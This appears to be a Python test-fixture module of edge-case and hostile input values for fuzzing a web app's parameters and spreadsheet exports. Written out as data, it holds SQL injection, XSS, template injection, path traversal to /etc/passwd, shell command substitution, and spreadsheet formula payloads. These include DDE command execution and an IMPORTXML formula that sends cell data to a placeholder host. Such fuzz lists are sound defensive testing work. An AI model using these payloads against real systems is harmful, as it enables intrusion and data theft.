"""What visitors should never be able to break anything with: values for parameters, cells for spreadsheets."""

_WORDS = (
    "a", "A", "active", "Active", "ACTIVE", "none", "None", "null", "nan", "inf", "-inf", "true",
    "false", "on", "off",
    "corridor ", " corridor", "corridor,ceasefire", "corridor|ceasefire", "corridor%00", "undefined",
    "[]", "{}", "()",
    "[object Object]", "id", "pk", "kind__in", "-id", "random", "?", "sort", "created_by__password",
    "__all__", "self",
)  # fmt: skip
_NUMBERS = (
    "0", "-0", "-1", "1", "01", "+1", "1.0", "1e3", "1_000", "0x10", "١", "１", "²", "½",
    "9" * 5, "10000", "10001", "9" * 20,
    "9" * 200, "-" + "9" * 30, "2147483648", "9223372036854775808", "25", "26", "100", "100 ",
    "1 OR 1=1", "1;2", "1,2",
)  # fmt: skip
_DATES = (
    "2026-11-22", "2026-02-29", "2024-02-29", "2026-13-01", "2026-00-10", "2026-11-31", "0000-00-00", "0001-01-01",
    "1989-12-31", "1990-01-01", "2100-12-31", "2101-01-01", "9999-12-31", "10000-01-01", "-2026-11-22", "20261122",
    "2026-11-22T00:00:00Z", "2026-W47-7", "22/11/2026", "11-22-2026", "2026-11-2", "2026-1-22",
    "٢٠٢٦-١١-٢٢", "２０２６-11-22",
    "2026-11-22\n", "today", "yesterday", "now", "2026", "2026-11",
)  # fmt: skip
_TEXTS = (
    " ", "  ", "\t", "\n", "\r\n", "\x00", "a\x00b", "\x1b[31m", "\x7f", "\x85", "\u2028", "\ufeff",
    "\u200b", "\u202e", "\u2066",
    "\ufffd", "\ufffe", "\uffff", "\U0010ffff", "\ud800", "\udfff", "a\ud800b", "é", "é", "ß", "İ",
    "ı", "ﬁ", "Å", "ǆ",
    "مساعدات", "مُسَاعَدَات", "סיוע", "סִיּוּעַ", "援助", "🚚", "👩‍👩‍👧", "Z̷̧̛͎͖̤a̴l̵g̶o̷", "\u0301" * 50, "क्षि",
    "%", "%%", "_", "\\", "\\%", "%_\\", "*", "'", '"', "''", "`",
    "'; DROP TABLE initiatives_initiative; --", "1' OR '1'='1",
    "' UNION SELECT password FROM initiatives_user --", "/*", "*/", "--", ";", "&", "&&", "||", "|",
    "<", ">", "<script>",
    "<svg onload=alert(1)>", "javascript:alert(1)", "{{ 7*7 }}", "{% load %}", "${7*7}",
    "%(parameter)s", "%s", "%d", "{0}",
    "../../etc/passwd", "..\\..\\", "/", "//", "http://example.org", "file:///etc/passwd",
    "\\\\host\\share", "CON", "|id",
    "$(id)", "`id`", "#", "?x=1", "a=b", "a&b=c", "+", "%2B", "%00", "%C0%80", "%FF", "\xff", "\xa0",
    "\xad", "=1+1", "@SUM(1)",
)  # fmt: skip
_LONG = (
    "a" * 199, "a" * 200, "a" * 201, "a" * 5000, "é" * 200, "é" * 300, "ﷺ" * 200, "a " * 100,
    "a b " * 5, "x" * 20 + "%" * 100,
    "-" * 200, "(" * 200, "a" * 50 + "\x00", "مساعدات " * 20, "𝔞" * 150, "\u0301" * 200,
)  # fmt: skip

NASTY: tuple[str, ...] = tuple(dict.fromkeys((*_WORDS, *_NUMBERS, *_DATES, *_TEXTS, *_LONG)))
"""At least 200 values that a parameter may be given; a form's empty value is not one of them."""

_TRIGGERS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_BEFORE = ("", " ", "\t", "\r", "\n", "\u200b", "\ufeff", "\xa0", '"', "'", "“", " \u202e", "\x00")
_INNER = ("a;", "a,", "a\t", "a\n", "a|", "a; ", 'a,"')
_COMMANDS = (
    "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "+1+1", '=HYPERLINK("http://x","y")',
    "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")", "%0A-3+3", ";=1+1;", ",=1+1,", "\t=1+1\t=1+1",
    "a;-1;b", "a\r\n=1+1",
    '";=1+1;"', '"",=1+1', "=1+1\n=2+2", "|=1+1",
)  # fmt: skip

FORMULAS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(before + trigger + "1+1" for before in _BEFORE for trigger in _TRIGGERS),
            *(inner + trigger + "1+1" for inner in _INNER for trigger in _TRIGGERS[:4]),
            *_COMMANDS,
        )
    )
)
"""At least 120 cells that a spreadsheet could run."""
